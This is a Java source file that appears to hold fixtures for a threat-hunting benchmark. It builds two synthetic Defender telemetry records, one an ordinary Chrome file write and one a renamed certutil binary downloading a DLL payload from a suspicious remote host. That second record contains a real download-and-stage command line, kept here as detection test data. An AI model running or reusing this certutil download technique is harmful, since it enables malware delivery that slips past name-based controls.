package dev.bazahunt.bench;

import java.nio.charset.StandardCharsets;

/** Storage blob lines as the generator writes them: an everyday file write and the renamed-certutil download. */
final class TelemetryLines {
    static final byte[] BENIGN_FILE_WRITE = ("""
            {"time":"2021-07-20T12:13:38.5519840Z","tenantId":"3f2b9c1e-5d7a-4a1b-9c2d-7e5f1a2b3c4d",\
            "operationName":"Publish","category":"AdvancedHunting-DeviceFileEvents","properties":{\
            "Timestamp":"2021-07-20T12:12:23.5519840Z","DeviceId":"3b308dbc0a826407c09fab128d47fc73cb2a9f79",\
            "DeviceName":"wks-00160.contoso.local","ActionType":"FileCreated","FileName":"Q4 forecast 14.docx",\
            "FolderPath":"C:\\\\Users\\\\m.berg\\\\AppData\\\\Local\\\\Temp\\\\Q4 forecast 14.docx",\
            "SHA1":"c2a57d1e54e29f8e4f28a3bc3266d6ea8d56261d","FileSize":164618,"RequestProtocol":"Local",\
            "IsAzureInfoProtectionApplied":false,"InitiatingProcessAccountName":"m.berg",\
            "InitiatingProcessAccountSid":"S-1-5-21-1004336348-1177238915-682003330-7991",\
            "InitiatingProcessSHA1":"c7f3fbabda9735acf96edc3a3ba0d7d84f38fd19","InitiatingProcessFileName":"chrome.exe",\
            "InitiatingProcessFolderPath":"c:\\\\program files\\\\google\\\\chrome\\\\application\\\\chrome.exe",\
            "InitiatingProcessVersionInfoOriginalFileName":"chrome.exe","InitiatingProcessId":3148,\
            "InitiatingProcessCommandLine":"\\"chrome.exe\\" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US",\
            "InitiatingProcessCreationTime":"2021-07-20T11:40:02.5519840Z","InitiatingProcessParentId":3344,\
            "InitiatingProcessParentFileName":"explorer.exe","InitiatingProcessParentCreationTime":"2021-07-20T06:12:23.5519840Z",\
            "ReportId":18518,"AdditionalFields":"{\\"FileType\\":\\"Unknown\\"}","MachineGroup":"Sales laptops"}}""")
            .getBytes(StandardCharsets.UTF_8);

    static final byte[] RENAMED_CERTUTIL_DOWNLOAD = ("""
            {"time":"2021-07-20T14:03:12.4410000Z","tenantId":"3f2b9c1e-5d7a-4a1b-9c2d-7e5f1a2b3c4d",\
            "operationName":"Publish","category":"AdvancedHunting-DeviceFileEvents","properties":{\
            "Timestamp":"2021-07-20T14:02:58.1034567Z","DeviceId":"b2c4e6a8f0123456789abcdef0123456789abcde",\
            "DeviceName":"wks-0142.contoso.local","ActionType":"FileCreated","FileName":"tmp1834.dll",\
            "FolderPath":"C:\\\\Users\\\\Public\\\\x8k2\\\\tmp1834.dll","SHA1":"9c1e4a7b2d5f8e0a3c6b9d2e5f8a1c4b7e0d3f6a",\
            "FileSize":284672,"RequestProtocol":"Local","IsAzureInfoProtectionApplied":false,\
            "InitiatingProcessAccountName":"j.doe","InitiatingProcessAccountSid":"S-1-5-21-1004336348-1177238915-682003330-1104",\
            "InitiatingProcessSHA1":"dd445ef58fa3a31fef792a403566c658ade31306","InitiatingProcessFileName":"x8k2.exe",\
            "InitiatingProcessFolderPath":"c:\\\\users\\\\public\\\\x8k2\\\\x8k2.exe",\
            "InitiatingProcessVersionInfoOriginalFileName":"CertUtil.exe","InitiatingProcessId":7212,\
            "InitiatingProcessCommandLine":"x8k2.exe  -urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php C:\\\\Users\\\\Public\\\\x8k2\\\\tmp1834.dll",\
            "InitiatingProcessCreationTime":"2021-07-20T14:02:57.9912345Z","InitiatingProcessParentId":6640,\
            "InitiatingProcessParentFileName":"cmd.exe","InitiatingProcessParentCreationTime":"2021-07-20T14:02:57.5120000Z",\
            "ReportId":18342,"AdditionalFields":"{\\"FileType\\":\\"PortableExecutable\\"}","MachineGroup":"Workstations"}}""")
            .getBytes(StandardCharsets.UTF_8);

    private TelemetryLines() {}
}
